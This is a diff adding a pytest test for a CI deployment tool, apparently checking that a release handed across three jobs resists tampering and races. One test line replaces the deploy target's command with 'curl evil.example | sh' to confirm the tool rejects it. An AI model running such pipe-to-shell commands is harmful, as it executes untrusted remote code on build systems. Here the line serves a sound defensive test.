@@ -2,13 +2,24 @@
 
 from __future__ import annotations
 
+import os
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
+import msgspec
 import pytest
 
+from ciml.adapters.handover import Handover
+from ciml.app.release import Asked
+from ciml.cli.console import Console
+from ciml.cli.deploying import Deploying, asked_for
+from ciml.cli.invocation import Invocation
 from ciml.cli.main import main
+from ciml.cli.wiring import Place, open_place, project_at
+from ciml.core.deployment import DeployOrder, Receipt
 from ciml.core.entries import Deployment
+from ciml.core.errors import IntegrityError, RaceError
 from tests.awsserver import aws_server
 from tests.cli.calls import Calls, environment, process
 from tests.cli.ledgers import entries, state
@@ -110,6 +121,54 @@ def test_what_serves_is_fetched_before_it_is_replaced(clone: Calls, tmp_path: Pa
     assert (answer.code, answer.json["deployments"][0]["state"]) == (13, "rolled-back")
     assert (tmp_path / "target/production").read_text() == "0.7\n"
     assert inbox == []  # that call had no addresses
+
+
+@contextmanager
+def deploying(calls: Calls, *, tag: str | None = None) -> Iterator[tuple[Place, Deploying, Asked | None]]:
+    """What a CI job works with, in a clone."""
+    invocation = Invocation(directory=str(calls.path), environ=dict(os.environ))
+    with open_place(invocation) as place:
+        asked, project = asked_for(place, invocation, tag, {}) if tag else (None, project_at(place, invocation, {}))
+        yield place, Deploying(place, project, invocation, Console(invocation)), asked
+
+
+def test_a_release_over_three_jobs(
+    clone: Calls, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """One finds and verifies, one has the target and no registry, one writes the ledger; JSON and bytes between."""
+    clone.ok("deploy", "--ref", "v1")
+    origin = RepoBuilder(tmp_path / "origin", create=False)
+    second, third = (Calls(shallow(origin), capsys, monkeypatch) for _ in range(2))
+    second.repo.git("checkout", "-q", "v2")
+    handover = Handover(str(tmp_path / "handover"))
+    with deploying(clone, tag="v2") as (place, planning, asked):
+        assert asked is not None
+        [decision] = planning.released(asked)
+        assert decision.order is not None
+        handover.write("deployments", decision.order.name, decision.order)
+        handover.export(decision.order.outputs, place.store)
+
+    with deploying(second) as (place, target, _):
+        handover.take_in(place.store)
+        [order] = handover.all("deployments", DeployOrder)
+        assert order == decision.order
+        receipt = target.carry_out(order, check=True)
+        handover.write("receipts", order.name, receipt)
+        elsewhere = msgspec.structs.replace(order.target, run="curl evil.example | sh")
+        with pytest.raises(IntegrityError, match="its target"):
+            target.carry_out(msgspec.structs.replace(order, target=elsewhere), check=True)
+    assert not (second.path / ".git/ciml/registry").exists()
+
+    with deploying(third) as (_, recording, _):
+        [told] = handover.all("receipts", Receipt)
+        assert recording.record(order, told).written
+        assert not recording.record(order, told).written
+        with pytest.raises(IntegrityError, match="is not its order's"):
+            recording.record(order, msgspec.structs.replace(told, environment="staging"))
+    with deploying(second) as (_, target, _), pytest.raises(RaceError, match="another version came to serve"):
+        target.carry_out(order, check=True)
+    assert (tmp_path / "target/production").read_text() == "0.8\n"
+    assert state(clone.repo, remote="origin").deployments["production"].version == 2
 
 
 def test_another_registry(clone: Calls, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
